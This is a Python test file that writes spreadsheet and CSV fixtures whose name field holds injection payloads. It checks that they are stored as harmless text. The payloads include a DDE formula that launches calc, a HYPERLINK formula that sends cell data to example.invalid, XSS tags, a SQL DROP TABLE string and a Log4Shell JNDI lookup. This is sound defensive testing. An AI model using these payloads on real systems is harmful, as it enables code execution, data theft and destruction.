"""Formula, script and SQL text in names: stored as the harmless text it is."""

from pathlib import Path

from tests.hostile.table import Kind
from tests.hostile.workbooks import csv_text, person, xls, xlsx

KIND = Kind("formula, script and SQL text in names")

FORMULA = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"甲某")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
MARKDOWN = "[甲某](javascript:alert(1)) ![x](http://example.invalid/x.png) $\\frac{a}{b}$"
SQL = "'); DROP TABLE households; --"
TEMPLATE = "{{7*7}} %s {0} ${jndi:ldap://example.invalid/a}"
BACKWARDS = "甲\u202e某\u202c"
NAMES = (FORMULA, LINK, SUM, SCRIPT, IMAGE, MARKDOWN, SQL, TEMPLATE, BACKWARDS)


@KIND.stored("a.csv")
def a_formula(path: Path) -> None:
    path.write_text(csv_text(person(姓名=FORMULA)), "utf-8")


@KIND.stored("a.xlsx")
def a_formula_that_is_text_in_a_workbook(path: Path) -> None:
    xlsx(path, person(姓名=FORMULA))


@KIND.stored("a.csv")
def a_link_that_would_send_a_cell_away(path: Path) -> None:
    path.write_text(csv_text(person(姓名=LINK)), "utf-8")


@KIND.stored("a.csv")
def an_old_formula(path: Path) -> None:
    path.write_text(csv_text(person(姓名=SUM)), "utf-8")


@KIND.stored("a.xlsx")
def a_script(path: Path) -> None:
    xlsx(path, person(姓名=SCRIPT))


@KIND.stored("a.xls")
def an_image_that_runs_a_script(path: Path) -> None:
    xls(path, person(姓名=IMAGE))


@KIND.stored("a.csv")
def markdown_with_a_link(path: Path) -> None:
    path.write_text(csv_text(person(姓名=MARKDOWN)), "utf-8")


@KIND.stored("a.csv")
def sql(path: Path) -> None:
    path.write_text(csv_text(person(姓名=SQL)), "utf-8")


@KIND.stored("a.csv")
def templates(path: Path) -> None:
    path.write_text(csv_text(person(姓名=TEMPLATE)), "utf-8")


@KIND.stored("a.csv")
def text_that_runs_backwards(path: Path) -> None:
    path.write_text(csv_text(person(姓名=BACKWARDS)), "utf-8")


@KIND.stored("=1+1.csv")
def a_file_name_that_is_a_formula(path: Path) -> None:
    path.write_text(csv_text(person(姓名=SQL)), "utf-8")


@KIND.stored("<script>alert(1)<.xlsx")
def names_of_file_and_sheet_that_are_scripts(path: Path) -> None:
    xlsx(path, person(姓名=SCRIPT))
